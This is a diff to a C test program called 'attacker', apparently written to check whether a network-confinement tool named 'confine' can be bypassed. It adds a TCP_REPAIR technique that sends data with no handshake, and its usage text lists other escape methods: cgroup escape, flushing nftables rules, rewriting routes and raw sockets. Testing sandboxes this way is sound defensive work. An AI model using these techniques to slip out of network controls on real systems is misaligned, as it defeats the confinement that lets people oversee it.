@@ -32,6 +32,7 @@
 #include <linux/sched.h>
 #include <net/if.h>
 #include <netinet/in.h>
+#include <netinet/tcp.h>
 #include <netinet/ip.h>
 #include <netinet/udp.h>
 #include <poll.h>
@@ -173,6 +174,7 @@ static void usage(void)
 	fprintf(stderr,
 		"usage: attacker [--token T] ATTACK [ARG...]\n"
 		"  send PROTO:HOST:PORT...            tcp or udp; HOST may be [v6]\n"
+		"  tcp-repair tcp:HOST:PORT           data without a handshake\n"
 		"  cgroup-escape CGROUP2_PATH DEST... write own PID to the root cgroup.procs, send\n"
 		"  nft-delete                         delete confine's table, flush the ruleset\n"
 		"  rtnl MARK MASK TABLE GATEWAY IFNAME  delete the rule, replace table T's routes\n"
@@ -631,6 +633,47 @@ static int attack_so_mark(int argc, char **argv)
 		report(label, send_on(fd, &d), t0);
 		close(fd);
 	}
+	return 0;
+}
+
+/*
+ * tcp-repair tcp:HOST:PORT: a TCP segment that is not a bare SYN, sent
+ * without a handshake. confine lets such segments go on as answers of
+ * connections that exist; TCP_REPAIR would let a process make one up:
+ * connect() in repair mode sets the socket up as established without
+ * sending anything, and after repair mode the data leaves as ACK|PSH.
+ */
+static int attack_tcp_repair(int argc, char **argv)
+{
+	int on = 1, off = 0, queue = TCP_SEND_QUEUE;
+	unsigned seq = 1000;
+	struct dest d;
+	double t0 = now();
+	int fd, err;
+
+	if (argc != 1)
+		usage();
+	parse_dest(argv[0], &d);
+	fd = socket(d.ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (fd < 0)
+		return 1;
+	err = err_of(setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof(on)));
+	report("setsockopt-TCP_REPAIR", err, t0);
+	if (err) {
+		close(fd);
+		return 0;
+	}
+	setsockopt(fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &queue, sizeof(queue));
+	setsockopt(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &seq, sizeof(seq));
+	t0 = now();
+	report("repair-connect",
+	       err_of(connect(fd, (struct sockaddr *)&d.ss, d.len)), t0);
+	setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &off, sizeof(off));
+	t0 = now();
+	report("repair-send", err_of(send(fd, token, strlen(token), 0)), t0);
+	/* Give the segment time to leave before the socket goes. */
+	usleep(200000);
+	close(fd);
 	return 0;
 }
 
@@ -1881,6 +1924,7 @@ int main(int argc, char **argv)
 		{ "nft-delete", attack_nft_delete },
 		{ "rtnl", attack_rtnl },
 		{ "so-mark", attack_so_mark },
+		{ "tcp-repair", attack_tcp_repair },
 		{ "af-packet", attack_af_packet },
 		{ "raw-ip", attack_raw_ip },
 		{ "unshare", attack_unshare },
